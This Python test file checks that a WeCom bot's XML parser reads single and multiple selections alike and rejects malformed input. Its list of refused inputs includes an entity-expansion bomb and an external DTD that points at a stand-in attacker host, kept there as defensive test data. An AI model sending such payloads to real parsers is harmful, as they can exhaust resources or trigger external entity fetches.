"""XML of WeCom's shape is read the same way whether something comes once or often; anything else is refused."""

from __future__ import annotations

import pytest

from bot.errors import Unauthentic
from handlers.wecom.xml import document, legal
from tests.fakes.wecom_sealing import xml


def selected(*items: tuple[str, list[str]]) -> dict[str, object]:
    return {"SelectedItem": [{"QuestionKey": key, "OptionIds": {"OptionId": ids}} for key, ids in items]}


@pytest.mark.parametrize("items", [(("who", ["mei"]),), (("who", ["mei", "bo"]), ("how", ["x"]))], ids=["one", "many"])
def test_one_and_many_are_lists_alike(items: tuple[tuple[str, list[str]], ...]) -> None:
    message = {
        "Event": "template_card_event",
        "SelectedItems": selected(*items),
        "CreateTime": "1",
        "Content": " 认领 1024 \n<b>&amp; ]]> ",
    }
    assert document(xml(message)) == message


BILLION = '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><xml><Encrypt>&b;</Encrypt></xml>'
WRONG = {
    "a DTD": "<!DOCTYPE xml><xml><a>1</a></xml>",
    "an external DTD": '<!DOCTYPE xml SYSTEM "http://attacker.example/x.dtd"><xml><a>1</a></xml>',
    "entities": BILLION,
    "a doubled tag": "<xml><Encrypt>1</Encrypt><Encrypt>2</Encrypt></xml>",
    "depth": "<xml>" + "<a>" * 16 + "</a>" * 16 + "</xml>",
    "great depth": "<a>" * 20_000,
    "size": "<xml>" + "x" * 65_536 + "</xml>",
    "text between tags": "<xml>a<b>1</b></xml>",
    "no tag": "hello",
    "nothing": "",
    "half": "<xml><a>",
    "two roots": "<xml><a>1</a></xml><xml/>",
    "text alone": "<xml>hello</xml>",
    "a null": "<xml><a>\0</a></xml>",
    "a lone surrogate": "<xml><a>\ud800</a></xml>",
    "an unknown entity": "<xml><a>&nbsp;</a></xml>",
}


@pytest.mark.parametrize("text", WRONG.values(), ids=WRONG)
def test_what_wecom_would_not_send_is_refused(text: str) -> None:
    with pytest.raises(Unauthentic):
        document(text)


def test_a_pasted_control_character_costs_no_message() -> None:
    assert document(legal("<xml><a>\x0bclaim\x1f 1024\t😀</a></xml>")) == {"a": "claim 1024\t😀"}
